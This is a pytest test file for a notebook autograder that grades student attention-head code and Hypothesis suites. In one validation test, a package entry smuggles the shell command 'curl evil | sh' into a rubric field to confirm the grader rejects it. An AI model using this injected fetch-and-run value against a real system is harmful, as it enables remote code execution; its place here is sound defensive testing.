"""Submissions as students make them: notebooks graded on their definitions, Hypothesis suites.

The notebooks in tests/notebooks/ (written by make_notebooks.py) are what a student hands in after a
session in Colab or Jupyter. Most tests read ``prepare()``'s output (fast); a few grade in full.
"""

from __future__ import annotations

import ast
import importlib.util
import json
import random
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
import torch

from grader._notebook import clean_cell, notebook_cells, reduce_cells
from grader.checks._student_tests import grade_suite
from grader.library import load_reference
from grader.rubric import Rubric
from grader.runner import grade
from grader.sandbox import WorkerPool
from grader.submission import DEFAULT_CONTRACT, prepare

NOTEBOOKS = Path(__file__).parent / "notebooks"
SUITES = Path(__file__).parent / "student_suites"
CORE = DEFAULT_CONTRACT[:4]
CORRECT = [
    "plots_and_magics",
    "colab_drive_pandas_tqdm_seaborn",
    "buggy_then_fixed",
    "helper_in_later_cell",
    "slow_training_and_raise",
    "time_magic_head",
    "constants_and_aliases",
]
# cells of which nothing is run, per notebook, numbered as the editor shows them (issue 36.7): In [n], the
# execution count, in a notebook run and saved; slow_training_and_raise has a cell that never ran, so its
# cells are numbered by place (1-based, every cell counted, markdown included)
DROPPED = {
    "plots_and_magics": [1, 5, 6, 7],
    "colab_drive_pandas_tqdm_seaborn": [1, 6, 7, 8],
    "buggy_then_fixed": [3, 5],
    "helper_in_later_cell": [5],
    "slow_training_and_raise": [5, 6, 7],
    "time_magic_head": [1, 5, 6],
    "constants_and_aliases": [4],
    "buggy_among_plots": [3, 4, 6],
    "einops_head": [1, 3, 5],
}


def notebook(name: str) -> Path:
    return NOTEBOOKS / f"{name}.ipynb"


def load(source: str) -> dict[str, object]:
    """Run a reduced module made from our own fixtures (never student code) in a fresh namespace."""
    namespace: dict[str, object] = {"__name__": "attention_head"}
    exec(compile(source, "attention_head.py", "exec"), namespace)
    return namespace


def test_the_library_is_what_the_generator_writes() -> None:
    spec = importlib.util.spec_from_file_location("make_notebooks", NOTEBOOKS / "make_notebooks.py")
    assert spec is not None and spec.loader is not None
    generator = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(generator)
    BUILT = generator.NOTEBOOKS  # noqa: N806
    assert sorted(BUILT) == sorted(DROPPED)
    for name, nb in BUILT.items():
        assert json.loads(notebook(name).read_text(encoding="utf-8")) == nb, f"rerun make_notebooks.py ({name})"


@pytest.mark.parametrize("name", CORRECT)
def test_correct_notebooks_reduce_to_a_correct_head(name: str) -> None:
    ref = load_reference()
    with prepare(notebook(name)) as sub:
        assert sub.unavailable == {} and sub.dropped_cells == DROPPED[name]
        ns = load(sub.source)  # imports nothing but torch and math; runs no demo
    g = torch.Generator().manual_seed(0)
    X, W_Q, W_K, W_V = (torch.randn(*s, generator=g, dtype=torch.float64) for s in ((2, 5, 4), (4, 3), (4, 3), (4, 2)))
    for causal in (True, False):
        out, w = ns["causal_self_attention"](X, W_Q, W_K, W_V, causal=causal)  # type: ignore[operator]
        ref_out, ref_w = ref.causal_self_attention(X, W_Q, W_K, W_V, causal=causal)
        torch.testing.assert_close((out, w), (ref_out, ref_w))
    assert {n for n in CORE if callable(ns.get(n))} == set(CORE)


def test_only_what_the_contract_needs_is_kept() -> None:
    with prepare(notebook("plots_and_magics")) as sub:
        assert "matplotlib" not in sub.source and "plt." not in sub.source and "timeit" not in sub.source
        assert "print(" not in sub.source  # the demo cell
    with prepare(notebook("colab_drive_pandas_tqdm_seaborn")) as sub:
        for gone in ("drive.mount", "google", "pandas", "seaborn", "tqdm", "numpy", "to_csv"):
            assert gone not in sub.source, gone
    with prepare(notebook("slow_training_and_raise")) as sub:
        assert "opt.step()" not in sub.source and "attention_weights" not in sub.source
        assert "import time" not in sub.source  # unused by the definitions
    with prepare(notebook("constants_and_aliases")) as sub:
        tree = ast.parse(sub.source)
        kept = {ast.unparse(n).split("\n")[0] for n in tree.body}
        assert {"torch = th", "math = m", "import torch as th", "NEG_INF = float('-inf')"} <= kept
        assert "d_k = 64" not in sub.source and "score_scale_statistics(d_k)" not in sub.source


def test_a_later_redefinition_wins_as_in_the_notebook() -> None:
    with prepare(notebook("buggy_then_fixed")) as sub:
        heads = [n for n in ast.parse(sub.source).body if isinstance(n, ast.FunctionDef) and n.name == CORE[0]]
        assert len(heads) == 2 and "masked_fill" in ast.unparse(heads[-1])
        assert "assert (weights[0].triu(1) == 0).all()" not in sub.source  # the check cell is not run


def test_a_helper_from_a_later_cell_is_kept() -> None:
    with prepare(notebook("helper_in_later_cell")) as sub:
        names = [n.name for n in ast.parse(sub.source).body if isinstance(n, ast.FunctionDef)]
    assert {"project", "future_mask"} <= set(names)


def test_a_time_magic_cell_keeps_its_code() -> None:
    assert clean_cell("%%time\ndef f():\n    return 1\n") == "\ndef f():\n    return 1\n"
    assert clean_cell("%%bash\nls -l\n") == ""  # not Python: the whole cell goes
    assert clean_cell("files = !ls\nt = %timeit -o f()\ntorch.softmax?\nx = 1\n") == "\n\n\nx = 1\n"
    with prepare(notebook("time_magic_head")) as sub:
        assert "def causal_self_attention" in sub.source and "%" not in sub.source


def test_dropped_cells_and_broken_cells_are_listed_in_the_notes() -> None:
    with prepare(notebook("slow_training_and_raise")) as sub:
        assert sub.notes[0] == (
            "2 of your 6 code cells were not run: the grader needs only your definitions "
            "(cells 5 and 6 of 7, counting every cell from 1, markdown included)."
        )
        assert "Cell 7 was left out: it is not valid Python (line 2: '(' was never closed)." in sub.notes


def test_an_unavailable_package_sinks_only_what_needs_it() -> None:
    with pytest.raises(ImportError):
        __import__("einops")  # the premise: the grader really does not have it
    with prepare(notebook("einops_head")) as sub:
        assert sub.unavailable == {"causal_self_attention": "einops"}
        assert "einops" not in sub.source and "def causal_self_attention" not in sub.source
        assert {"gaussian_positional_weights", "gaussian_positional_qk", "score_scale_statistics"} <= set(
            load(sub.source)
        )
        assert any(n.startswith("`causal_self_attention` uses einops, which the grader does not") for n in sub.notes)


def test_a_py_that_imports_a_missing_package_loses_only_what_needs_it(tmp_path: Path) -> None:
    """As for a notebook (issue 24): a .py importing einops at its top level is graded on its definitions; the
    message names the package, what to use instead and what the course provides."""
    module = tmp_path / "attention_head.py"
    module.write_text(
        "import torch\nfrom einops import einsum\n\n\ndef causal_self_attention(X, W_Q, W_K, W_V, causal=True):\n"
        "    return einsum(X, X, 'b i d, b j d -> b i j'), X\n\n\ndef gaussian_positional_weights(T, h):\n"
        "    return torch.eye(T)\n"
    )
    with prepare(module, packages=["matplotlib>=3.8"]) as sub:
        assert sub.unavailable == {"causal_self_attention": "einops"} and sub.provided == ["matplotlib"]
        assert "def gaussian_positional_weights" in sub.source and "einops" not in sub.source
        graded_on = "attention_head.py imports einops, which the grader does not install"
        assert any(n.startswith(graded_on) for n in sub.notes)
        said = next(n for n in sub.notes if n.startswith("`causal_self_attention` uses einops"))
        assert "the course's packages matplotlib" in said and "rubric's `packages`" in said
    module.write_text(module.read_text().replace("from einops import einsum\n", ""))
    with prepare(module) as sub:  # nothing missing: the module is imported as it is
        assert sub.unavailable == {} and sub.source == module.read_text()


def test_the_missing_package_named_is_the_one_the_code_calls(tmp_path: Path) -> None:
    """Issue 35, item 9: jaxtyping's Float read only in annotations, einops called in the body: the head is lost
    for want of einops (the package to replace), never named after the annotation's."""
    for missing in ("einops", "jaxtyping"):
        assert importlib.util.find_spec(missing) is None  # the premise: the grader has neither
    module = tmp_path / "attention_head.py"
    module.write_text(
        "import math\n\nimport einops\nimport torch\nfrom jaxtyping import Float\nfrom torch import Tensor\n\n\n"
        "def causal_self_attention(\n"
        "    X: Float[Tensor, 'b t d'], W_Q, W_K, W_V, causal: bool = True\n"
        ") -> tuple[Float[Tensor, 'b t e'], Float[Tensor, 'b t t']]:\n"
        "    q, k, v = X @ W_Q, X @ W_K, X @ W_V\n"
        "    scores: Float[Tensor, 'b t t'] = einops.einsum(q, k, 'b i d, b j d -> b i j') / math.sqrt(q.shape[-1])\n"
        "    w = scores.softmax(-1)\n"
        "    return w @ v, w\n"
    )
    with prepare(module) as sub:
        assert sub.unavailable == {"causal_self_attention": "einops"}
        assert any(n.startswith("`causal_self_attention` uses einops, which the grader") for n in sub.notes)


def test_what_needs_a_missing_package_is_dropped_transitively() -> None:
    cells = [
        (1, "import torch\nimport nonexistent_pkg_xyz as npx\nSCALE = npx.scale(2)"),
        (2, "def helper(x):\n    return x * SCALE\n\ndef causal_self_attention(X, *w):\n    return helper(X), X"),
        (3, "def gaussian_positional_weights(T, h):\n    return torch.eye(T)"),
        (4, "try:\n    import other_missing_xyz\nexcept ImportError:\n    other_missing_xyz = None"),
        (5, "def gaussian_positional_qk(T, h):\n    return other_missing_xyz, None"),
    ]
    from grader._notebook import Cell

    red = reduce_cells([Cell(n, c) for n, c in cells], DEFAULT_CONTRACT)
    assert red.unavailable == {"causal_self_attention": "nonexistent_pkg_xyz"}
    assert "def gaussian_positional_weights" in red.source and "import torch" in red.source
    assert "try:" in red.source  # a guarded import is the student's fallback: kept as is


def test_local_names_never_pull_in_top_level_code() -> None:
    """A function's own variables (weights, X, out) are not the experiment cell's globals."""
    cells, total = notebook_cells(notebook("plots_and_magics").read_text())
    red = reduce_cells(cells, DEFAULT_CONTRACT, total_cells=total)
    assert "W_Q, W_K, W_V = torch.randn" not in red.source


def test_a_notebook_using_only_installed_or_course_packages_needs_no_fallback(tmp_path: Path) -> None:
    nb = json.loads(notebook("constants_and_aliases").read_text())
    nb["cells"][0]["source"] = ["import numpy as np\n", "import hypothesis\n", *nb["cells"][0]["source"]]
    (tmp_path / "nb.ipynb").write_text(json.dumps(nb))
    with prepare(tmp_path / "nb.ipynb", packages=["hypothesis>=6"]) as sub:
        assert sub.unavailable == {}
        assert not any("course allows" in n for n in sub.notes)
    with prepare(tmp_path / "nb.ipynb", packages=["einops>=0.7", "hypothesis"]) as sub:
        assert [n for n in sub.notes if "course allows" in n] == [
            "The course allows einops, but it is not installed where this grade ran: code that imports it could "
            "not be graded here (pip install einops)."
        ]


def test_definitions_only_applies_to_a_py(tmp_path: Path) -> None:
    text = notebook_cells(notebook("slow_training_and_raise").read_text())[0]
    module = "\n\n".join(c.code for c in text[:4])  # imports, head, aux, the training loop
    (tmp_path / "attention_head.py").write_text(module)
    with prepare(tmp_path / "attention_head.py") as sub:
        assert "opt.step()" in sub.source  # a .py is imported as it is
    with prepare(tmp_path / "attention_head.py", definitions_only=True) as sub:
        assert "opt.step()" not in sub.source and "def causal_self_attention" in sub.source
        assert sub.notes and sub.notes[0].startswith("Definitions only: 9 top-level statements of attention_head.py")


# ---- full grades -----------------------------------------------------------------------------------


def _grade(name: str, rubric: Rubric, pool: WorkerPool):  # type: ignore[no-untyped-def]
    t0 = time.perf_counter()
    result = grade(notebook(name), rubric, pool=pool, visuals=False)
    return result, time.perf_counter() - t0


@pytest.mark.parametrize("name", CORRECT)
def test_correct_notebooks_get_full_marks(name: str, rubric: Rubric, pool: WorkerPool) -> None:
    result, seconds = _grade(name, rubric, pool)
    absent = {"student_tests", "streaming_softmax", "kv_cache", "fused_kernel_cuda"}  # not in a notebook / no GPU
    assert {c.id: c.status for c in result.checks if c.status != "passed"}.keys() <= absent
    assert result.score == sum(c.max_score for c in result.checks if c.id not in absent)
    assert seconds < 60
    assert any("were not run: the grader needs only your definitions" in n or "was not run" in n for n in result.notes)


def test_a_buggy_head_among_plots_fails_exactly_its_checks(rubric: Rubric, pool: WorkerPool) -> None:
    only = ["causal_mask", "future_perturbation", "gaussian_kernel", "row_stochastic", "score_scaling"]
    result = grade(notebook("buggy_among_plots"), rubric, pool=pool, only=only, visuals=False)
    status = {c.id: c.status for c in result.checks}
    assert status == {
        "row_stochastic": "passed",
        "causal_mask": "failed",
        "future_perturbation": "failed",
        "score_scaling": "passed",
        "gaussian_kernel": "passed",
    }


def test_an_unavailable_package_costs_only_the_head(rubric: Rubric, pool: WorkerPool) -> None:
    only = ["interface", "causal_mask", "gaussian_kernel", "gaussian_qk", "score_scale_experiment"]
    result = grade(notebook("einops_head"), rubric, pool=pool, only=only, visuals=False)
    by_id = {c.id: c for c in result.checks}
    for cid in ("gaussian_kernel", "gaussian_qk", "score_scale_experiment"):
        assert by_id[cid].status == "passed" and by_id[cid].score == by_id[cid].max_score, cid
    message = (
        "`causal_self_attention` uses einops, which the grader does not install; "
        "use torch operations (`.transpose`, `.reshape`, `.permute`)"
    )
    assert by_id["causal_mask"].status == "failed" and by_id["causal_mask"].message.startswith(message[0].upper())
    assert message in by_id["interface"].message


# ---- students' tests with Hypothesis ---------------------------------------------------------------


@pytest.fixture(scope="module")
def suite_pool() -> Iterator[WorkerPool]:
    with WorkerPool(2) as p:
        yield p


def _suite(tmp_path: Path, text: str) -> Path:
    d = tmp_path / "sub"
    d.mkdir()
    (d / "attention_head.py").write_text("raise RuntimeError('the student head must not be used')\n")
    (d / "test_props.py").write_text(text)
    return d


def test_hypothesis_runs_derandomized_without_a_database(
    tmp_path: Path, rubric: Rubric, suite_pool: WorkerPool
) -> None:
    text = (
        "from hypothesis import settings\n\n"
        "def test_profile():\n"
        "    s = settings.default\n"
        "    assert not (s.derandomize and s.database is None and s.deadline is None), 'grader profile'\n"
    )
    verdict = grade_suite(_suite(tmp_path, text), rubric, pool=suite_pool, rng=random.Random(0))
    assert "fails on a correct head" in verdict.message and "grader profile" in verdict.message


def test_a_test_importing_a_missing_package_names_it(tmp_path: Path, rubric: Rubric, suite_pool: WorkerPool) -> None:
    text = "import einops\n\ndef test_a():\n    pass\n"
    verdict = grade_suite(_suite(tmp_path, text), rubric, pool=suite_pool, rng=random.Random(0))
    assert verdict.status == "failed" and verdict.fraction in (None, 0.0)
    first = verdict.message.splitlines()[0]
    assert first.startswith("Your test file test_props.py imports einops, which is not installed where the grader")
    assert "fails on a correct head" not in verdict.message


@pytest.mark.slow
def test_a_hypothesis_suite_is_graded_on_the_chaffs_it_catches(
    tmp_path: Path, rubric: Rubric, suite_pool: WorkerPool
) -> None:
    text = (SUITES / "hypothesis_props.py").read_text()
    verdict = grade_suite(_suite(tmp_path, text), rubric, pool=suite_pool, jobs=2, rng=random.Random(0))
    assert "Your tests pass on a correct head" in verdict.message
    assert 0.5 < (verdict.fraction or 0) < 1
    missed = verdict.message.splitlines()[2:]
    assert not any("Definition 4.1" in line and "upper triangle" in line for line in missed)  # the mask is tested
    assert any("causal=False" in line for line in missed)  # no test calls the unmasked head


# ---- course packages ---------------------------------------------------------------------------------


def test_course_packages_are_validated_and_installed_by_setup_sh(tmp_path: Path) -> None:
    import zipfile

    from grader._paths import bundled
    from grader.gradescope import build_bundle
    from grader.rubric import RubricError, load_rubric

    text = (bundled("rubrics") / "step4.toml").read_text(encoding="utf-8")
    good, bad = tmp_path / "good.toml", tmp_path / "bad.toml"
    good.write_text(text.replace("\n[limits]", 'packages = ["matplotlib>=3.8", "seaborn"]\n\n[limits]', 1))
    bad.write_text(text.replace("\n[limits]", 'packages = ["x; curl evil | sh"]\n\n[limits]', 1))
    assert load_rubric(good).packages == ["matplotlib>=3.8", "seaborn"]
    with pytest.raises(RubricError, match="packages.0"):
        load_rubric(bad)
    build_bundle(tmp_path / "autograder.zip", good)
    with zipfile.ZipFile(tmp_path / "autograder.zip") as zf:
        setup = zf.read("setup.sh").decode()
    assert "\"$VENV/bin/python\" -m pip install --quiet 'matplotlib>=3.8' seaborn\n" in setup
    assert "{course_packages}" not in setup


def test_the_cli_grades_a_py_on_its_definitions_only(tmp_path: Path) -> None:
    from grader.cli import grade_main

    cells = notebook_cells(notebook("slow_training_and_raise").read_text())[0]
    (tmp_path / "attention_head.py").write_text("\n\n".join(c.code for c in cells[:4]))  # with the training loop
    t0 = time.perf_counter()
    code = grade_main([str(tmp_path / "attention_head.py"), "--definitions-only", "--only", "causal_mask", "--quiet"])
    assert code == 0 and time.perf_counter() - t0 < 15  # the loop alone runs for minutes


def _saved(path: Path, cells: list[tuple[str, str, int | None]]) -> Path:
    """A notebook file as an editor saves it: (cell type, source, execution count) per cell."""
    out = []
    for kind, source, count in cells:
        cell: dict[str, object] = {"cell_type": kind, "metadata": {}, "source": source}
        if kind == "code":
            cell |= {"execution_count": count, "outputs": []}
        out.append(cell)
    path.write_text(json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": out}), encoding="utf-8")
    return path


def test_cells_are_numbered_as_the_editor_shows_them(tmp_path: Path) -> None:
    """Issue 36.7: one numbering, the editor's. A notebook run and saved shows In [n] beside every code cell (run
    out of order here): its notes say In [n]. One with a cell that never ran (no number beside it) numbers every
    cell by place, markdown included, as before."""
    head = "def causal_self_attention(X, W_Q, W_K, W_V, causal=True):\n    return torch.softmax(X, -1), X\n"
    cells: list[tuple[str, str, int | None]] = [
        ("markdown", "# Step 4", None),
        ("code", "import torch\nimport matplotlib.pyplot as plt", 1),
        ("markdown", "My head:", None),
        ("code", head, 4),
        ("code", "plt.plot([1, 2])", 3),
        ("code", "def broken(:\n    pass", 2),
        ("code", "", None),  # the empty cell at the end of every notebook: no number, nothing to name
    ]
    with prepare(_saved(tmp_path / "homework.ipynb", cells)) as sub:
        assert sub.cells_counted and sub.dropped_cells == [3, 2]
        assert "1 code cell was not run: the grader needs only your definitions (In [3])." in sub.notes
        assert any(n.startswith("From In [1] only what your definitions need was kept") for n in sub.notes)
        assert "In [2] was left out: it is not valid Python (line 1: invalid syntax)." in sub.notes
        assert set(sub.lines.values()) >= {(4, 1), (4, 2)}  # a cause's line: In [4], line 2
    cells[4] = ("code", "plt.plot([1, 2])", None)  # never ran: the editor shows [ ] beside it
    with prepare(_saved(tmp_path / "homework.ipynb", cells)) as sub:
        assert not sub.cells_counted and sub.dropped_cells == [5, 6, 7]
        assert sub.notes[0] == (
            "2 of your 5 code cells were not run: the grader needs only your definitions "
            "(cells 5 and 7 of 7, counting every cell from 1, markdown included)."
        )
        assert "Cell 6 was left out: it is not valid Python (line 1: invalid syntax)." in sub.notes
